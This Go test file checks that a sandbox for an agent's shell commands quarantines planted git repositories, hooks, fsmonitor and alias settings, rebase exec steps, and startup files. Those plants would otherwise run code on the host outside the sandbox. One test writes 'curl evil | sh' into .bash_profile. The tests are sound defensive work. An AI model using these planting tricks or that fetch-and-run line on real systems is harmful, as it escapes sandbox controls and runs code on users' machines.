package sandbox

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"turnstile/domain"
)

// hostGitRun runs git on the host like hostGit, but returns its failure
// instead of failing the test (git refuses a repository that was
// quarantined).
func hostGitRun(t *testing.T, dir string, args ...string) (string, error) {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com"}, args...)...)
	cmd.Dir = dir
	cmd.Env = []string{"HOME=" + t.TempDir(), "PATH=/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1"}
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// clockPast waits until the clock file times are stamped with, down to the
// second (plantWalk.since), has passed p's change time, so that p counts
// as older than the next command.
func clockPast(t *testing.T, p string) { clockPastB(t, p) }

func clockPastB(t testing.TB, p string) {
	t.Helper()
	var st unix.Stat_t
	if err := unix.Lstat(p, &st); err != nil {
		t.Fatal(err)
	}
	for !coarseNow().Truncate(time.Second).After(time.Unix(st.Ctim.Unix())) {
		time.Sleep(10 * time.Millisecond)
	}
}

// mkfilesB creates empty files and (names ending in "/") directories
// below base.
func mkfilesB(t testing.TB, base string, names ...string) {
	t.Helper()
	for _, name := range names {
		p := filepath.Join(base, name)
		dir := p
		if !strings.HasSuffix(name, "/") {
			dir = filepath.Dir(p)
		}
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		if !strings.HasSuffix(name, "/") {
			if err := os.WriteFile(p, []byte("[core]\n\tbare = false\n\tfsmonitor = x\n"), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
}

// quarantined returns the git dirs r reports quarantined.
func quarantined(r *Result) []string {
	var out []string
	for _, q := range r.Quarantined {
		out = append(out, q.Path)
	}
	return out
}

// plantFixture is a workspace repository whose own config holds keys the
// check would not trust in a repository a command made (the user's own
// choices: an alias, a textconv, a hooks path), a marker path outside it,
// and the auto_accept_edits snapshot over it.
type plantFixture struct {
	ws, marker string
	s          *domain.TurnExecutionSecuritySnapshot
}

func newPlantFixture(t *testing.T) *plantFixture {
	t.Helper()
	requireKernel(t, true)
	base := tempWorkspace(t)
	ws := base + "/ws"
	mkfiles(t, ws, map[string]string{"src/main.go": "package main\n", "README": "r\n"})
	hostGit(t, ws, "init", "-q")
	hostGit(t, ws, "config", "alias.st", "status")
	hostGit(t, ws, "config", "diff.bin.textconv", "cat")
	hostGit(t, ws, "add", ".")
	hostGit(t, ws, "commit", "-q", "-m", "first")
	return &plantFixture{ws: ws, marker: base + "/pwned", s: snapshotFor(t, domain.ModeAutoAcceptEdits, ws, machine().Kernel)}
}

// fsmonitor is a config line that makes git run a program touching the
// marker.
func (f *plantFixture) fsmonitor(suffix ...string) string {
	return "printf '[core]\\n\\tfsmonitor = touch " + f.marker + strings.Join(suffix, "") + "\\n'"
}

const agentGit = "export HOME=$TMPDIR; git -c user.name=agent -c user.email=agent@example.com "

// TestPlantedRepositoryIsQuarantined: the audit's planted repository. A
// command makes a repository in a new directory with a core.fsmonitor
// program and registers it in the workspace's index as a submodule; the
// host's next git status in the workspace would run the program. After the
// command, its HEAD is renamed and the result names it; the host's git
// status runs nothing, nor does git in the planted directory. Control: the
// workspace's own repository (held for the command, its config the user's
// own) is left alone although the command committed to it.
func TestPlantedRepositoryIsQuarantined(t *testing.T) {
	f := newPlantFixture(t)
	r := sh(t, f.s, agentGit+"init -q sub && "+f.fsmonitor()+" >> sub/.git/config && "+
		agentGit+"-C sub commit -q --allow-empty -m x && "+agentGit+"add sub && "+agentGit+"commit -q -m 'add sub' && echo ok")
	if r.ExitCode != 0 || !strings.Contains(string(r.Stdout), "ok") {
		t.Fatalf("the plant failed (%d): %s", r.ExitCode, r.Stderr)
	}
	if got := quarantined(r); !slices.Equal(got, []string{f.ws + "/sub/.git"}) {
		t.Fatalf("quarantined %v, want only sub/.git (%+v)", got, r.Quarantined)
	}
	q := r.Quarantined[0]
	if !strings.Contains(q.Reason, "core.fsmonitor") || q.MovedTo != f.ws+"/sub/.git/HEAD"+domain.UntrustedSuffix || q.Error != "" ||
		exists(f.ws+"/sub/.git/HEAD") || !exists(q.MovedTo) {
		t.Fatalf("quarantine %+v", q)
	}
	hostGitRun(t, f.ws, "status")
	hostGitRun(t, f.ws+"/sub", "status")
	if exists(f.marker) {
		t.Fatal("the host's git ran the planted repository's fsmonitor")
	}
	if !exists(f.ws+"/.git/HEAD") || !strings.Contains(hostGit(t, f.ws, "log", "--oneline"), "add sub") {
		t.Fatal("the workspace's own repository was touched")
	}
}

// TestPlantedBareRepositoryIsQuarantined: HEAD, objects and refs written
// into an existing directory make git take it for a bare repository (with
// the config next to them); a linked-worktree layout (HEAD and commondir)
// takes its config from the common dir it names, here a directory with no
// HEAD of its own; a new repository with a hook; each is quarantined, and
// the host's git in them runs nothing (the bare one's alias shadows the
// workspace's own "st").
func TestPlantedBareRepositoryIsQuarantined(t *testing.T) {
	f := newPlantFixture(t)
	hooked := f.ws + "/hooked"
	r := sh(t, f.s, "cd src && echo 'ref: refs/heads/main' > HEAD && mkdir objects refs && printf '[alias]\\n\\tst = !touch "+f.marker+".bare\\n' > config && cd .. && "+
		"mkdir -p x/common/objects x/common/refs x/wt y && "+f.fsmonitor(".common")+" > x/common/config && "+
		"echo 'ref: refs/heads/main' > x/wt/HEAD && echo ../common > x/wt/commondir && echo 'gitdir: ../x/wt' > y/.git && "+
		agentGit+"init -q hooked && printf '#!/bin/sh\\ntouch "+f.marker+".hook\\n' > hooked/.git/hooks/post-commit && chmod +x hooked/.git/hooks/post-commit && echo ok")
	if r.ExitCode != 0 {
		t.Fatalf("the plant failed (%d): %s", r.ExitCode, r.Stderr)
	}
	want := []string{f.ws + "/hooked/.git", f.ws + "/src", f.ws + "/x/wt"}
	got := quarantined(r)
	slices.Sort(got)
	if !slices.Equal(got, want) {
		t.Fatalf("quarantined %v, want %v (%+v)", got, want, r.Quarantined)
	}
	hostGitRun(t, f.ws+"/src", "st") // the person's own alias in the workspace: status
	hostGitRun(t, f.ws+"/y", "status")
	hostGitRun(t, hooked, "commit", "-q", "--allow-empty", "-m", "x")
	for _, m := range []string{".bare", ".common", ".hook"} {
		if exists(f.marker + m) {
			t.Errorf("the host's git ran what a planted repository said (%s)", m)
		}
	}
}

// TestQuarantineCannotBeUndone: a later command that renames the HEAD back
// gets an inert repository (its config and hooks were set aside with its
// HEAD); one that plants a repository
// below a symlink's target outside its roots, or loops, neither leads the
// walk out of the roots nor stops it.
func TestQuarantineCannotBeUndone(t *testing.T) {
	f := newPlantFixture(t)
	outside := t.TempDir()
	hostGit(t, outside, "init", "-q")
	hostGit(t, outside, "config", "core.fsmonitor", "false")
	r := sh(t, f.s, agentGit+"init -q sub && "+f.fsmonitor()+" >> sub/.git/config")
	if len(r.Quarantined) != 1 {
		t.Fatalf("quarantined %+v", r.Quarantined)
	}
	clockPast(t, f.ws+"/sub/.git/HEAD"+domain.UntrustedSuffix) // nothing but the rename back is recent
	r = sh(t, f.s, "mv sub/.git/HEAD"+domain.UntrustedSuffix+" sub/.git/HEAD && ln -s "+outside+" out && ln -s . loop && mkdir -p a/b && ln -s ../.. a/b/up")
	// The HEAD is back, but the config went with it: an inert repository.
	if !exists(f.ws+"/sub/.git/HEAD") || exists(f.ws+"/sub/.git/config") || !exists(f.ws+"/sub/.git/config"+domain.UntrustedSuffix) {
		t.Fatalf("after the rename back: quarantined %v", quarantined(r))
	}
	hostGitRun(t, f.ws+"/sub", "status")
	if exists(f.marker) {
		t.Fatal("the revived repository ran its fsmonitor")
	}
	if !exists(outside + "/.git/HEAD") {
		t.Fatal("the walk followed a symlink out of the roots")
	}
}

// TestLegitimateRepositoriesAreKept: what git init, clone, commit and
// config write by themselves is trusted: the repositories stay usable on
// the host. A user's repository deeper than the discovery reaches keeps its
// own config while the command leaves it alone, and, met by that check, is
// held for the next command (its config read-only).
func TestLegitimateRepositoriesAreKept(t *testing.T) {
	f := newPlantFixture(t)
	deep := f.ws + "/d/1/2/3/4/5/6/7/deep"
	mkfiles(t, deep, map[string]string{"f": "x\n"})
	hostGit(t, deep, "init", "-q")
	hostGit(t, deep, "config", "core.hooksPath", "/usr/share/nothing")
	clockPast(t, deep+"/.git/config")
	r := sh(t, f.s, agentGit+"init -q lib && cd lib && echo x > x.c && "+agentGit+"add x.c && "+agentGit+"commit -q -m 'lib commit' && "+
		agentGit+"config user.email a@example.com && "+agentGit+"remote add origin https://example.com/x.git && "+
		agentGit+"branch -q --set-upstream-to=main main 2>/dev/null; cd .. && "+agentGit+"clone -q ./lib copy && "+
		agentGit+"clone -q --bare ./lib bare.git && echo ok")
	if r.ExitCode != 0 || !strings.Contains(string(r.Stdout), "ok") {
		t.Fatalf("(%d): %s", r.ExitCode, r.Stderr)
	}
	// The limits name the discovery's depth bound at d/…/6 (the deep
	// repository is below it), nothing of the check's own.
	var own []string
	for _, l := range r.CheckLimits {
		if !strings.Contains(l, "git dir discovery") {
			own = append(own, l)
		}
	}
	if len(r.Quarantined) != 0 || len(own) != 0 {
		t.Fatalf("quarantined %+v, limits %v", r.Quarantined, r.CheckLimits)
	}
	for _, dir := range []string{f.ws + "/lib", f.ws + "/copy", f.ws + "/bare.git"} {
		if out := hostGit(t, dir, "log", "--oneline"); !strings.Contains(out, "lib commit") {
			t.Fatalf("%s: %q", dir, out)
		}
	}
	if !exists(deep + "/.git/HEAD") {
		t.Fatal("a user's repository the command did not touch was quarantined")
	}
	// The check after the first command met it: the next command holds
	// it, its config read-only (before review 137 it was written, and the
	// repository quarantined after).
	r = sh(t, f.s, f.fsmonitor()+" >> "+deep+"/.git/config")
	if got := quarantined(r); r.ExitCode == 0 || len(got) != 0 || !strings.Contains(string(r.Stderr), "Read-only") {
		t.Fatalf("(%d) quarantined %v: %s", r.ExitCode, got, r.Stderr)
	}
	if !exists(deep + "/.git/HEAD") {
		t.Fatal("the deep repository lost its HEAD")
	}
}

// TestRepositoryHiddenFromTheCheckIsFound: a second command that moves a
// planted repository out of the way while the first command's check walks
// (here the move is made as the walk reaches the directory holding it, to a
// name the walk has listed past) hides it from that check; the next check
// finds it as a repository no walk has seen and checks it, although its
// times are older than that command. Control: without the move, the first
// check finds it.
func TestRepositoryHiddenFromTheCheckIsFound(t *testing.T) {
	f := newPlantFixture(t)
	mkfiles(t, f.ws, map[string]string{"a/": ""})
	clockPast(t, f.ws+"/a")
	sh(t, f.s, "true") // a first walk: the workspace's repositories are known
	plantVisitHook = func(root, rel string) {
		if root == f.ws && rel == "a" {
			if err := os.Rename(f.ws+"/a/x", f.ws+"/zz"); err != nil {
				t.Error(err)
			}
		}
	}
	r := sh(t, f.s, "mkdir a/x && cd a/x && "+agentGit+"init -q sub && "+f.fsmonitor()+" >> sub/.git/config")
	plantVisitHook = nil
	if r.ExitCode != 0 || len(r.Quarantined) != 0 || !exists(f.ws+"/zz/sub/.git/HEAD") {
		t.Fatalf("the move did not hide the repository from the check: %+v %s", r.Quarantined, r.Stderr)
	}
	clockPast(t, f.ws+"/zz/sub/.git/config")
	r = sh(t, f.s, "true")
	if got := quarantined(r); !slices.Equal(got, []string{f.ws + "/zz/sub/.git"}) || exists(f.ws+"/zz/sub/.git/HEAD") {
		t.Fatalf("the next check: quarantined %v", got)
	}
	// Control: the same plant, not moved, is found by its own check.
	r = sh(t, f.s, "mkdir -p a/y && cd a/y && "+agentGit+"init -q sub && "+f.fsmonitor()+" >> sub/.git/config")
	if got := quarantined(r); !slices.Equal(got, []string{f.ws + "/a/y/sub/.git"}) {
		t.Fatalf("control: quarantined %v", got)
	}
}

// TestPlantedWorkTreeOutsideIsQuarantined: a repository whose core.worktree
// is the host user's home (git submodule update, checkout or reset there
// would write their start-up files), or a directory reached through a
// symlink, is quarantined; one whose work tree is its own directory in the
// workspace (what git submodule writes) is kept.
func TestPlantedWorkTreeOutsideIsQuarantined(t *testing.T) {
	f := newPlantFixture(t)
	home := t.TempDir()
	r := sh(t, f.s, agentGit+"init -q a && "+agentGit+"-C a config core.worktree "+home+" && "+
		agentGit+"init -q b && ln -s "+home+" blink && "+agentGit+"-C b config core.worktree ../../blink && "+
		"mkdir -p c gd && "+agentGit+"init -q --separate-git-dir=$PWD/gd/c c && "+agentGit+"-C c config core.worktree ../../c && echo ok")
	if r.ExitCode != 0 {
		t.Fatalf("(%d) %s", r.ExitCode, r.Stderr)
	}
	got := quarantined(r)
	slices.Sort(got)
	if want := []string{f.ws + "/a/.git", f.ws + "/b/.git"}; !slices.Equal(got, want) {
		t.Fatalf("quarantined %v, want %v (%+v)", got, want, r.Quarantined)
	}
}

// TestStoppedRebaseWithExecIsSetAside: a command stops an interactive
// rebase of the workspace's own repository (held for it) before an exec
// instruction; the user's `git rebase --continue` on the host would run
// that command outside the sandbox. After the command, the rebase state is
// set aside and named; the host's continue runs nothing. Control: a rebase
// stopped on a conflict, with no exec instruction, stays as it is.
func TestStoppedRebaseWithExecIsSetAside(t *testing.T) {
	f := newPlantFixture(t)
	r := sh(t, f.s, "echo a > a.txt && "+agentGit+"add a.txt && "+agentGit+"commit -q -m second && "+
		agentGit+"-c \"sequence.editor=sed -i '1i break'\" rebase -q -i -x 'touch "+f.marker+"' HEAD~1; echo rc=$?")
	if !strings.Contains(string(r.Stdout), "rc=0") || exists(f.marker) {
		t.Fatalf("the rebase did not stop at the break: %s %s", r.Stdout, r.Stderr)
	}
	state := f.ws + "/.git/rebase-merge"
	if got := quarantined(r); !slices.Equal(got, []string{state}) || exists(state) || !exists(state+domain.UntrustedSuffix) {
		t.Fatalf("set aside %v (%+v)", got, r.Quarantined)
	}
	hostGitRun(t, f.ws, "rebase", "--continue")
	if exists(f.marker) {
		t.Fatal("the host's git rebase --continue ran the command's exec")
	}
	if !exists(f.ws + "/.git/HEAD") {
		t.Fatal("the workspace's repository lost its HEAD")
	}

	g := newPlantFixture(t)
	r = sh(t, g.s, "echo a > a.txt && "+agentGit+"add a.txt && "+agentGit+"commit -q -m second && "+agentGit+"checkout -q -b other HEAD~1 && "+
		"echo b > a.txt && "+agentGit+"add a.txt && "+agentGit+"commit -q -m third && "+agentGit+"rebase -q main; echo rc=$?")
	if strings.Contains(string(r.Stdout), "rc=0") || len(r.Quarantined) != 0 || !exists(g.ws+"/.git/rebase-merge") && !exists(g.ws+"/.git/rebase-apply") {
		t.Fatalf("control: %s %s %+v", r.Stdout, r.Stderr, r.Quarantined)
	}
}

// TestTodoRunsCommands: exec instructions are found however written.
func TestTodoRunsCommands(t *testing.T) {
	for todo, runs := range map[string]bool{
		"pick abc x\npick def exec\n": false, "pick abc\nexec make\n": true, "  x touch y\n": true, "# exec z\n": true,
		"EXEC z\n": true, "execute z\n": false, "break\nlabel x\n": false, "\tx\n": true,
	} {
		if got := todoRunsCommands([]byte(todo)) != ""; got != runs {
			t.Errorf("%q: %v", todo, got)
		}
	}
}

// TestCreatedStartupFilesAreSetAside: shell start-up files, .envrc and
// editor settings are read-only where they exist; one the command creates
// where it did not exist (at the workspace's root) is set aside after it
// and named, and a second one the same way (numbered). Control: an
// ordinary file created next to them stays.
func TestCreatedStartupFilesAreSetAside(t *testing.T) {
	f := newPlantFixture(t)
	for round := 0; round < 2; round++ {
		r := sh(t, f.s, "echo 'curl evil | sh' > .bash_profile && echo 'use flake' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo n > notes.txt")
		if r.ExitCode != 0 {
			t.Fatalf("(%d) %s", r.ExitCode, r.Stderr)
		}
		got := quarantined(r)
		slices.Sort(got)
		want := []string{f.ws + "/.bash_profile", f.ws + "/.envrc", f.ws + "/.vscode"}
		if !slices.Equal(got, want) {
			t.Fatalf("round %d: set aside %v, want %v (%+v)", round, got, want, r.Quarantined)
		}
		suffix := domain.UntrustedSuffix
		if round == 1 {
			suffix += ".1"
		}
		for _, p := range want {
			if exists(p) || !exists(p+suffix) {
				t.Fatalf("round %d: %s not set aside as %s", round, p, p+suffix)
			}
		}
		if !exists(f.ws + "/notes.txt") {
			t.Fatal("an ordinary file was set aside")
		}
	}
}

// TestPlantCheckLimitsAreReported: a workspace larger than the walk's
// bound is checked as far as the bound, and the result says where the
// check stopped (a command may make directories to push a repository past
// it).
func TestPlantCheckLimitsAreReported(t *testing.T) {
	f := newPlantFixture(t)
	defer func(n int) { maxPlantDirs = n }(maxPlantDirs)
	maxPlantDirs = 20
	r := sh(t, f.s, "mkdir -p "+strings.Repeat("d/", 30)+" && "+agentGit+"init -q "+strings.Repeat("d/", 30)+"sub")
	if r.ExitCode != 0 || len(r.CheckLimits) != 1 || !strings.Contains(r.CheckLimits[0], "stopped after 20 directories") {
		t.Fatalf("(%d) limits %q %s", r.ExitCode, r.CheckLimits, r.Stderr)
	}
}

// TestMissingHooksPathIsSetAside: the person's config names hooks relative
// to the work tree (husky's core.hooksPath = .husky/_), and that directory
// does not exist yet: one the command makes there is set aside after it,
// with the .husky whose scripts husky's stubs run, and the person's next
// commit runs nothing of it. Control: with the directory there, it is held
// read-only (TestProtectGitConfigReferences).
func TestMissingHooksPathIsSetAside(t *testing.T) {
	f := newPlantFixture(t)
	hostGit(t, f.ws, "config", "core.hooksPath", ".husky/_")
	r := sh(t, f.s, "mkdir -p .husky/_ && printf '#!/bin/sh\\n"+"touch "+f.marker+"\\n' > .husky/_/pre-commit && chmod +x .husky/_/pre-commit && echo ok")
	got := quarantined(r)
	slices.Sort(got)
	if r.ExitCode != 0 || !slices.Equal(got, []string{f.ws + "/.husky", f.ws + "/.husky/_"}) {
		t.Fatalf("(%d) set aside %v: %s", r.ExitCode, quarantined(r), r.Stderr)
	}
	hostGitRun(t, f.ws, "commit", "-q", "--allow-empty", "-m", "x")
	if exists(f.marker) {
		t.Fatal("the person's commit ran the command's hook")
	}
}
